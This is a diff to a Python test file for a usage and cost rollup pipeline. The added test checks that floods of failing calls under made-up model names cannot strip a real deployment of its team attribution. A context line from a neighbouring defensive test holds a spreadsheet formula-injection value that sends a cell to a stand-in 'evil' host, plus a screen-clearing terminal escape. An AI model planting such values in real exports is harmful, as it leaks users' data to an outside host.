@@ -431,6 +431,50 @@ def test_made_up_model_names_cannot_grow_the_rollup_with_the_calls() -> None:
     assert other["Calls"] == 3_000 - rollup.MAX_VALUES_PER_DAY
 
 
+def test_made_up_names_on_failing_calls_push_no_answered_deployment_out_of_its_team() -> None:
+    """A client sends 2,100 failing calls, each naming another model (a route whose body
+    names it), before the one call a team makes: the cap used to count them first, name that
+    call's deployment (other) and bill its team's spend to Unattributed."""
+    from datetime import UTC, datetime
+
+    from pipeline.kpi import attribution, prices, rollup
+
+    def rows() -> Any:
+        t = datetime(2025, 11, 4, 10, tzinfo=UTC)
+        for i in range(2_100):
+            yield {"Deployment": f"made-up-{i}", "Model": f"m-{i}", "Status": 404, "CallTime": t}
+        yield {
+            "Deployment": "claims-gpt4o",
+            "Model": "gpt-4o-2024-08-06",
+            "Status": 200,
+            "CallTime": t,
+            "PromptTokens": 1000,
+            "CompletionTokens": 500,
+            "TotalTokens": 1500,
+        }
+
+    teams = attribution.parse(
+        b'{"rules": [{"team": "Claims", "match": {"deployment": "claims-gpt4o"}}]}'
+    )
+    folded = rollup.aggregate(rows(), DAYS[1], prices.load(""), teams)
+    answered = [(key, acc) for key, acc in folded.hours.items() if acc.counts["Succeeded"]]
+    ((key, acc),) = answered
+    assert key[1] == "Claims" and "claims-gpt4o" in key and acc.tokens["PromptTokens"] == 1000
+    rolled = rollup.rollup_day(rows(), DAYS[1], prices.load(""), teams)
+    deployments = {e.get("Deployment") for e in rolled.daily}
+    assert "claims-gpt4o" in deployments and rollup.OTHER in deployments
+
+    # Past the cap of answered names too (a sender on the hub), the call keeps its team:
+    # attributed by its name as logged, then counted as (other).
+    def answered_first() -> Any:
+        for row in rows():
+            yield {**row, "Status": 200}
+
+    folded = rollup.aggregate(answered_first(), DAYS[1], prices.load(""), teams)
+    claims = [key for key in folded.hours if key[1] == "Claims"]
+    assert len(claims) == 1 and rollup.OTHER in claims[0]
+
+
 def test_hostile_group_names_are_inert_in_csv_and_on_the_terminal() -> None:
     folded = chargeback.Folded()
     for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "ok\x1b[2Jcleared", "+1", "plain"):
